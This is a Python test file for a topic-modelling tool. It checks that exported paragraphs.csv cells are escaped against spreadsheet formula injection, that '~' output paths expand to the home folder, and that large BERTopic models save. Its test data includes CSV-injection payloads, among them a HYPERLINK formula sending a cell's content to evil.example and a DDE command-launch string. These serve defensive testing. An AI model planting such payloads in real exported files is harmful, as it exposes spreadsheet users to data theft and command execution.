"""Red-team round two (issue 31): paragraphs.csv safe to open in a spreadsheet and still read
back exactly (item 1), a saved BERTopic model at every size (item 7), and ``out="~/..."``
expanded as ``output.dir`` is (item 8). Real ``themescope.fit`` on small real texts, the real
CLI, real files; no fixture from tests/conftest.py (see helpers.py)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

import themescope
from tests.reliability.helpers import quick_run_args, run_cli

BOM = b"\xef\xbb\xbf"
# What a spreadsheet runs as a formula (OWASP: CSV injection), and the escape mark itself.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
AUTHORS = [HYPERLINK, "+1", "-x", "@SUM(A1:A9)", "'=x", "''x", "-1", "張偉", "=cmd|' /C calc'!A0"]
HOSTILE_TEXTS = [
    f"{HYPERLINK} sanctions on Russian banks",
    "+1 sanctions on Russian banks again this year",
    "-x NATO troops in the Baltic states",
    "@SUM(1+1) the summit in Helsinki on arms",
    "'=x sanctions on banks in Europe",
    "''x NATO troops in the Baltic states",
    "-1",
    "美俄關係在制裁之後很難恢復正常",
]
THEMES = [
    "Sanctions on Russian banks hurt trade with Europe this year.",
    "NATO troops in the Baltic states worry Moscow a great deal.",
    "The summit in Helsinki ended without any agreement on arms.",
]
LABEL = "=1+2 renamed"  # a topic label from the user's curation
TEXT_COLUMNS = [
    "paragraph_id",
    "question_id",
    "answer_id",
    "author",
    "heading",
    "language",
    "text",
    "topic_label",
    "source_question_id",
    "source_answer_id",
    "url",
    "date",
]
NUMBER_COLUMNS = ["position", "topic", "probability", "x", "y"]


def _records() -> list[dict]:
    texts = [f"{THEMES[i % 3]} Point {i} was made by a reader." for i in range(36)] + HOSTILE_TEXTS
    return [
        {
            "question": "Will the US and Russia mend ties?",
            "author": AUTHORS[i % len(AUTHORS)],
            "text": text,
            "answer_id": "-7" if i == 0 else f"a{i}",
            "url": "@https://x.test/" if i == 1 else "",
        }
        for i, text in enumerate(texts)
    ]


def _fit(records: list[dict], out: Path, cache: Path, **settings):
    """A real fit written to ``out``: the fast USE model, every paragraph kept (even "-1")."""
    return themescope.fit(
        records,
        out=out,
        embeddings__model="builtin-use",
        embeddings__cache_dir=str(cache),
        paragraphs__min_chars=1,
        **settings,
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """One real run of records whose authors, texts, ids, urls and a curated topic label
    begin like formulas, with the in-memory Run it returned."""
    root = tmp_path_factory.mktemp("hostile")
    records = _records()
    rename = {"rename": {"id": "q1-a1-p1", "text": records[0]["text"][:60]}, "label": LABEL}
    run = themescope.fit(
        records,
        {"curation": {"steps": [rename]}},
        out=root / "run",
        embeddings__model="builtin-use",
        embeddings__cache_dir=str(root / "cache"),
        paragraphs__min_chars=1,
    )
    return root, records, run


def _cells(path: Path) -> list[list]:
    """paragraphs.csv's rows as a spreadsheet gets them: text (quoted) cells as str, numbers
    (unquoted) as float."""
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))


def _table(path: Path) -> list[dict]:
    rows = _cells(path)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_no_cell_of_paragraphs_csv_runs_as_a_formula_in_a_spreadsheet(hostile):
    """Item 1: cells that begin with = + - @ (authors, texts, ids, urls, a curated label) get
    a ' in front, a text that begins with ' one more; numbers stay numbers (unquoted, no
    mark); the file is UTF-8 with a byte-order mark, and the manifest says so."""
    root, _, _ = hostile
    path = root / "run" / "paragraphs.csv"
    assert path.read_bytes().startswith(BOM)
    table = _table(path)
    for row in table:
        assert all(isinstance(row[c], float) for c in NUMBER_COLUMNS), row
        assert all(isinstance(row[c], str) and not _runs_as_formula(row[c]) for c in TEXT_COLUMNS), row
    authors = {row["author"] for row in table}
    assert {"'" + HYPERLINK, "'+1", "'-x", "'@SUM(A1:A9)", "''=x", "'''x", "'-1", "張偉"} <= authors
    texts = {row["text"] for row in table}
    assert {
        "'" + HOSTILE_TEXTS[0],
        "''=x sanctions on banks in Europe",
        "'''x NATO troops in the Baltic states",
    } <= texts
    assert {"'-1", "美俄關係在制裁之後很難恢復正常"} <= texts
    assert "'" + LABEL in {row["topic_label"] for row in table}
    assert {"'-7", "'@https://x.test/"} <= {row["source_answer_id"] for row in table} | {
        r["url"] for r in table
    }
    manifest = json.loads((root / "run" / "manifest.json").read_text("utf-8"))
    assert manifest["csv"] == {"encoding": "utf-8-sig", "formula_escape": "'"}


def test_load_run_gives_back_exactly_what_went_in(hostile):
    """Item 1: through the marks, load_run reads back every text, author, id and label as
    the run had them, which are the inputs' own."""
    root, records, run = hostile
    again = themescope.load_run(root / "run")
    assert again.paragraphs[TEXT_COLUMNS].to_dict("records") == run.paragraphs[TEXT_COLUMNS].to_dict(
        "records"
    )
    assert again.paragraphs["text"].tolist() == [r["text"] for r in records]
    assert again.paragraphs["author"].tolist() == [r["author"] for r in records]
    assert again.paragraphs["source_answer_id"].tolist() == [r["answer_id"] for r in records]
    assert LABEL in again.topics["label"].tolist() and LABEL in again.paragraphs["topic_label"].tolist()


def test_tabs_carriage_returns_and_negative_numbers_round_trip_through_run_write(hostile, tmp_path):
    """Item 1: a notebook user's table with cells that begin with a tab or a carriage return
    (the reader strips them from inputs) and an outlier's topic -1: written by Run.write,
    the text cells carry the mark, -1 stays a bare number, and load_run gives them back."""
    root, _, _ = hostile
    run = themescope.load_run(root / "run")
    frame = run.paragraphs.copy()
    frame.loc[0, ["author", "text", "heading"]] = ["\tTab author", "\r=cr text", "\t"]
    frame.loc[1, ["topic", "topic_label", "text"]] = [-1, "outlier", "-1"]
    run.paragraphs = frame
    run.write(tmp_path / "edited")
    table = _table(tmp_path / "edited" / "paragraphs.csv")
    assert (table[0]["author"], table[0]["text"], table[0]["heading"]) == (
        "'\tTab author",
        "'\r=cr text",
        "'\t",
    )
    assert (table[1]["topic"], table[1]["text"]) == (-1.0, "'-1")
    raw = (tmp_path / "edited" / "paragraphs.csv").read_bytes().decode("utf-8-sig").split("\r\n")
    assert ',-1,"outlier",' in raw[2]
    again = themescope.load_run(tmp_path / "edited")
    assert again.paragraphs[TEXT_COLUMNS].to_dict("records") == frame[TEXT_COLUMNS].to_dict("records")
    assert again.paragraphs["topic"].tolist() == frame["topic"].tolist()


def test_a_run_folder_written_before_the_marks_reads_back_unchanged(hostile, tmp_path):
    """Item 1: a folder from before (plain UTF-8, no marks, no ``csv`` in its manifest) is
    read as it is: a text that begins with ' keeps it."""
    root, records, run = hostile
    old = tmp_path / "old"
    shutil.copytree(root / "run", old)
    manifest = json.loads((old / "manifest.json").read_text("utf-8"))
    manifest.pop("csv", None)  # as a run wrote it before the marks
    (old / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False), "utf-8")
    with (old / "paragraphs.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(run.paragraphs.columns))
        writer.writeheader()
        writer.writerows(run.paragraphs.to_dict("records"))
    assert not (old / "paragraphs.csv").read_bytes().startswith(BOM)
    again = themescope.load_run(old)
    assert again.paragraphs["text"].tolist() == [r["text"] for r in records]
    assert again.paragraphs["author"].tolist() == [r["author"] for r in records]
    assert "'=x" in again.paragraphs["author"].tolist()


# --- item 8: out="~/..." ----------------------------------------------------------------------


def test_fit_out_and_run_write_expand_the_home_folder(hostile, tmp_path, monkeypatch):
    """Item 8: ``fit(out="~/...")``, ``Run.write("~/...")`` and ``load_run("~/...")`` mean the
    home folder, as ``output.dir`` does; no folder named ``~`` appears where Python runs."""
    root, records, _ = hostile
    home, work = tmp_path / "home", tmp_path / "work"
    home.mkdir()
    work.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(work)
    run = _fit(records[:39], "~/runs/notebook", root / "cache")
    assert (home / "runs" / "notebook" / "paragraphs.csv").is_file()
    assert run.directory == home / "runs" / "notebook"
    again = themescope.load_run("~/runs/notebook")
    again.write("~/copy")
    assert (home / "copy" / "manifest.json").is_file()
    assert list(work.iterdir()) == []


def test_the_cli_out_expands_the_home_folder(hostile, tmp_path):
    """Item 8: ``--out '~/run'`` (quoted, so no shell expands it) writes into the home folder."""
    root, records, _ = hostile
    home, work = tmp_path / "home", tmp_path / "work"
    home.mkdir()
    work.mkdir()
    inputs = tmp_path / "answers.jsonl"
    inputs.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records[:39]), "utf-8")
    args = quick_run_args(inputs, Path("~/run"), root / "cache", "--set", 'embeddings.model="builtin-use"')
    proc = run_cli(*args, cwd=work, env={"HOME": str(home)})
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert (home / "run" / "paragraphs.csv").is_file()
    assert list(work.iterdir()) == []


# --- item 7: a saved model at every size ------------------------------------------------------

_SUBJECTS = ["The minister", "A reporter", "Our neighbour", "The old farmer", "My teacher", "A young nurse"]
_SUBJECTS += ["The mayor", "Every student", "The engineer", "A shop owner", "The captain", "Her brother"]
_TOPICS = {
    "harvest": ["the wheat harvest", "the rain on the fields", "the price of grain", "the new tractor"],
    "football": [
        "the football final",
        "the goalkeeper's save",
        "the penalty in extra time",
        "the league table",
    ],
    "hospital": [
        "the hospital waiting list",
        "the night shift on the ward",
        "the vaccine supply",
        "the nurses' pay",
    ],
    "trains": ["the delayed trains", "the new railway bridge", "the ticket prices", "the station repairs"],
    "weather": ["the storm last night", "the heat wave", "the snow in the mountains", "the flooded river"],
    "music": ["the jazz concert", "the new violin teacher", "the choir's rehearsal", "the festival line-up"],
    "cooking": ["the bread recipe", "the spicy noodle soup", "the cheese market", "the bakery's cakes"],
    "elections": ["the election debate", "the vote count", "the candidate's speech", "the new parliament"],
}
_VERBS = [
    "talked about",
    "complained about",
    "wrote a letter about",
    "was happy about",
    "asked questions about",
]
_WHEN = ["on Monday", "this morning", "last week", "after lunch", "in the evening", "at the weekend"]
_WHEN += [
    "yesterday",
    "in spring",
    "before the holiday",
    "on the radio",
    "at the meeting",
    "in the newspaper",
]


def _many_sentences(n: int) -> list[str]:
    """``n`` different short sentences on eight everyday subjects."""
    sentences = [
        f"{who} {verb} {what} {when}."
        for what in [w for words in _TOPICS.values() for w in words]
        for who in _SUBJECTS
        for verb in _VERBS
        for when in _WHEN
    ]
    assert len(sentences) >= n
    return sentences[:: len(sentences) // n][:n]


@pytest.mark.slow
def test_a_run_of_more_than_10000_paragraphs_saves_a_model_bertopic_loads(tmp_path):
    """Item 7: above 10,000 paragraphs (where c-TF-IDF's vocabulary is capped) the run folder
    holds model/ (it was "BERTopic.save failed (TypeError)"); BERTopic.load reads it and its
    topics have topics.json's words."""
    from bertopic import BERTopic

    out = tmp_path / "large"
    texts = _many_sentences(10_200)
    run = themescope.fit(
        texts, out=out, embeddings__model="builtin-use", embeddings__cache_dir=str(tmp_path / "cache")
    )
    assert len(run.paragraphs) == 10_200
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    assert not [w for w in manifest["warnings"] if "model/" in w], manifest["warnings"]
    assert "model/config.json" in manifest["files"]
    model = BERTopic.load(str(out / "model"))
    topics = json.loads((out / "topics.json").read_text("utf-8"))["topics"]
    assert len(topics) > 1
    for topic in topics:
        assert [w for w, _ in model.get_topic(topic["id"])] == [w for w, _ in topic["keywords"]]
